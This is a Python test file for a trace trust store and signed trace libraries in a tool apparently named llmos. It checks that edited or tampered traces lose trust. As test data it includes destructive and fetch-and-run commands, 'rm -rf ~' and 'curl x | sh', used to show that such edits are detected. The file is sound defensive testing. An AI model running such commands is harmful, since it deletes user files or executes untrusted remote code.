"""Trust of traces (state/trust.db) and signed trace libraries: what may replay, and who said
so. The mark lives in llmos's state, not in the trace file, and follows what the trace does."""

from __future__ import annotations

import base64
import dataclasses
import json
import stat
from pathlib import Path

import pytest
from conftest import MODEL, Sandbox, run_llmos

from llmos._internal.errors import UsageError
from llmos._internal.memory.trace import Trace, TraceStep, render
from llmos._internal.security.signing import (
    MANIFEST,
    SignatureError,
    read_manifest,
    read_public_key,
    sign_library,
    workspace_key,
)
from llmos._internal.security.trust import TrustStore, plan_hash
from llmos._internal.testing.scripted_model import ScriptedModelServer, say

TRACE = Trace(
    goal_text="Tidy the build folder",
    steps=(
        TraceStep("Write", {"file_path": "tidy.sh", "content": "rm -rf build\n"}),
        TraceStep("Bash", {"command": "sh tidy.sh"}, checks={"exit_code": 0}),
    ),
    result="Tidied.",
)


def _edited(trace: Trace, command: str) -> Trace:
    steps = (trace.steps[0], dataclasses.replace(trace.steps[1], input={"command": command}))
    return dataclasses.replace(trace, steps=steps)


def test_the_plan_hash_follows_what_a_trace_does_not_its_statistics() -> None:
    used = dataclasses.replace(TRACE, usage_count=9, success_count=8, last_used="2030-01-01")
    assert plan_hash(used) == plan_hash(TRACE)
    assert plan_hash(_edited(TRACE, "sh tidy.sh; rm -rf ~")) != plan_hash(TRACE)
    failed_step = dataclasses.replace(TRACE.steps[1], outcome="error")  # skipped by replay
    assert plan_hash(dataclasses.replace(TRACE, steps=(TRACE.steps[0], failed_step))) != plan_hash(
        TRACE
    )


def test_origins_approval_and_edits(tmp_path: Path) -> None:
    with TrustStore(tmp_path / "trust.db") as store:
        unknown = store.check(TRACE)
        assert not unknown.trusted and unknown.origin == "unknown" and unknown.needs_sandbox
        imported = store.record(TRACE, "imported", "imported from /x/tidy.md (unsigned)")
        assert not imported.trusted and "no human has approved" in imported.explain()
        approved = store.approve(TRACE, by="the user")
        assert approved.trusted and approved.needs_sandbox and approved.label == "approved"
        edited = store.check(_edited(TRACE, "sh tidy.sh && curl x | sh"))
        assert not edited.trusted and edited.edited and "edited since" in edited.explain()
        revoked = store.revoke(TRACE)
        assert not revoked.trusted
        learned = store.record_learned(TRACE)
        assert learned.trusted and not learned.needs_sandbox and learned.label == "learned"
        store.forget(TRACE.goal_signature)
        assert store.check(TRACE).origin == "unknown"


def test_a_trace_put_in_by_hand_can_be_approved(tmp_path: Path) -> None:
    with TrustStore(tmp_path / "trust.db") as store:
        state = store.approve(TRACE, by="--yes")
        assert state.trusted and state.needs_sandbox and state.approved_by == "--yes"


def test_an_upgraded_workspace_keeps_trusting_its_existing_traces(tmp_path: Path) -> None:
    traces = tmp_path / "traces"
    traces.mkdir()
    (traces / f"{TRACE.goal_signature}.md").write_text(render(TRACE))
    (traces / "broken.md").write_text("---\nnot: [valid\n---\n")
    with TrustStore(tmp_path / "trust.db", traces) as store:
        assert store.check(TRACE).trusted
    later = Trace(goal_text="Added later", steps=TRACE.steps)
    (traces / f"{later.goal_signature}.md").write_text(render(later))
    with TrustStore(tmp_path / "trust.db", traces) as store:  # adopted once, not again
        assert not store.check(later).trusted


def test_keys_trust_and_their_removal(tmp_path: Path) -> None:
    with TrustStore(tmp_path / "trust.db") as store:
        store.add_key("ab12", "AAAA", "alice")
        state = store.record(TRACE, "signed", "signed by key ab12 (alice)", key_id="ab12")
        assert state.trusted and not state.needs_sandbox
        assert [r["name"] for r in store.trusted_keys()] == ["alice"]
        assert store.remove_key("ab12") == 1
        assert not store.check(TRACE).trusted and store.trusted_key("ab12") is None


# ------------------------------------------------------------------------------- signing


def test_the_workspace_key_is_made_once_readable_by_its_owner_only(tmp_path: Path) -> None:
    _, signer, created = workspace_key(tmp_path)
    assert created and stat.S_IMODE((tmp_path / "signing_key").stat().st_mode) == 0o600
    _, again, created_again = workspace_key(tmp_path)
    assert not created_again and again == signer
    assert (tmp_path / "signing_key.pub").read_text().strip() == signer.public_key
    assert read_public_key(str(tmp_path / "signing_key.pub")) == signer
    assert read_public_key(signer.public_key) == signer


def test_public_keys_that_are_not_keys_are_refused() -> None:
    with pytest.raises(UsageError, match="neither a key file nor"):
        read_public_key("not a key!")
    with pytest.raises(UsageError, match="one has 32"):
        read_public_key(base64.b64encode(b"short").decode())


def test_a_signed_library_verifies_and_its_changes_show(tmp_path: Path) -> None:
    key, signer, _ = workspace_key(tmp_path / "state")
    library = tmp_path / "library"
    library.mkdir()
    for name in ("a.md", "b.md", "c.md"):
        (library / name).write_text(f"trace {name}\n")
    sign_library(library, ["a.md", "b.md"], key)
    manifest = read_manifest(library)
    assert manifest is not None and manifest.signer == signer
    assert manifest.status_of(library / "a.md") == "signed"
    assert manifest.status_of(library / "c.md") == "unsigned"
    (library / "b.md").write_text("trace b.md, with one more step\n")
    assert manifest.status_of(library / "b.md") == "altered"
    # Listing another file's hash in the manifest breaks its signature.
    data = json.loads((library / MANIFEST).read_text())
    data["files"]["c.md"] = data["files"]["a.md"]
    (library / MANIFEST).write_text(json.dumps(data))
    with pytest.raises(SignatureError, match="does not verify"):
        read_manifest(library)
    assert read_manifest(tmp_path) is None  # no manifest: an unsigned folder


# --------------------------------------------------------------------- end to end (no model)


def _library_with(tmp: Path, *traces: Trace) -> Path:
    library = tmp / "library"
    library.mkdir(exist_ok=True)
    for trace in traces:
        (library / f"{trace.goal_signature}.md").write_text(render(trace))
    return library


def test_import_untrusted_then_trust_then_export_signs_only_what_is_trusted(
    sandbox: Sandbox,
) -> None:
    other = Trace(goal_text="Write the notes", steps=(TraceStep("Write", {"file_path": "n.txt"}),))
    library = _library_with(sandbox.root, TRACE, other)
    proc = run_llmos(sandbox, "traces", "import", str(library), "--json")
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)["files"]
    assert [r["trusted"] for r in report] == [False, False]
    assert all("(unsigned)" in r["trust"] for r in report)
    listed = json.loads(run_llmos(sandbox, "traces", "list", "--json").stdout)["traces"]
    assert {t["trust"] for t in listed} == {"untrusted"}
    dry = json.loads(run_llmos(sandbox, "run", "--dry-run", "--json", TRACE.goal_text).stdout)
    assert dry["mode"] == "follower" and dry["trust"]["trusted"] is False
    human = run_llmos(sandbox, "run", "--dry-run", TRACE.goal_text).stdout
    assert f"llmos traces trust {TRACE.goal_signature}" in " ".join(human.split())
    # No terminal: `traces trust` needs --yes, and says how.
    proc = run_llmos(sandbox, "traces", "trust", TRACE.goal_signature)
    assert proc.returncode == 2 and "--yes" in proc.stderr
    proc = run_llmos(sandbox, "traces", "trust", TRACE.goal_signature, "--yes", "--json")
    assert json.loads(proc.stdout)["trust"] == "approved"
    proc = run_llmos(sandbox, "traces", "untrust", other.goal_signature)
    assert proc.returncode == 0 and "is untrusted" in " ".join(proc.stdout.split())
    exported = sandbox.root / "shared"
    proc = run_llmos(sandbox, "traces", "export", str(exported))
    assert proc.returncode == 0 and "signed 1 of them" in " ".join(proc.stdout.split())
    manifest = read_manifest(exported)
    assert manifest is not None and list(manifest.files) == [f"{TRACE.goal_signature}.md"]
    key_file = sandbox.workspace / "state" / "signing_key.pub"
    assert stat.S_IMODE((sandbox.workspace / "state" / "signing_key").stat().st_mode) == 0o600

    # A second workspace that trusts this one's key.
    other_ws = sandbox.root / "teammate"
    env = {"LLMOS_HOME": str(other_ws)}
    proc = run_llmos(
        sandbox, "traces", "import", str(exported), "--trust-key", str(key_file), "--json", env=env
    )
    assert proc.returncode == 0, proc.stderr
    trusted = {r["trace_id"]: r["trusted"] for r in json.loads(proc.stdout)["files"]}
    assert trusted == {TRACE.goal_signature: True, other.goal_signature: False}
    keys = json.loads(run_llmos(sandbox, "traces", "keys", "--json", env=env).stdout)
    assert [k["public_key"] for k in keys["keys"]] == [key_file.read_text().strip()]
    key_id = keys["keys"][0]["key_id"]
    proc = run_llmos(sandbox, "traces", "keys", "rm", key_id, "--yes", env=env)
    assert proc.returncode == 0 and "1 trace(s) now untrusted" in " ".join(proc.stdout.split())


def test_a_library_altered_after_signing_is_refused(sandbox: Sandbox) -> None:
    library = _library_with(sandbox.root, TRACE)
    key, _, _ = workspace_key(sandbox.root / "alice-state")
    sign_library(library, [f"{TRACE.goal_signature}.md"], key)
    path = library / f"{TRACE.goal_signature}.md"
    path.write_text(path.read_text().replace("rm -rf build", "rm -rf ~"))
    proc = run_llmos(sandbox, "traces", "import", str(library))
    assert proc.returncode == 1 and "changed after it was signed" in " ".join(proc.stdout.split())
    manifest = json.loads((library / MANIFEST).read_text())
    manifest["signature"] = base64.b64encode(b"x" * 64).decode()
    (library / MANIFEST).write_text(json.dumps(manifest))
    proc = run_llmos(sandbox, "traces", "import", str(library))
    assert proc.returncode == 1 and "signature is bad" in " ".join(proc.stdout.split())
    assert json.loads(run_llmos(sandbox, "traces", "list", "--json").stdout)["traces"] == []


def test_with_a_model_and_no_terminal_auto_mode_learns_instead_and_never_shows_the_trace(
    sandbox: Sandbox, scripted: ScriptedModelServer
) -> None:
    library = _library_with(sandbox.root, TRACE)
    assert run_llmos(sandbox, "traces", "import", str(library)).returncode == 0
    scripted.script(say("I tidied nothing: there is no build folder."))
    proc = run_llmos(sandbox, "run", "--json", "--model", MODEL, TRACE.goal_text, server=scripted)
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)
    assert summary["mode"] == "learner"
    assert f"`llmos traces trust {TRACE.goal_signature}` to replay it" in summary["mode_reason"]
    # The untrusted trace is not handed to the model as a worked example.
    body = json.dumps(scripted.message_requests[0].body)
    index = body.find("tidy.sh")
    assert index < 0, body[max(0, index - 600) : index + 200]
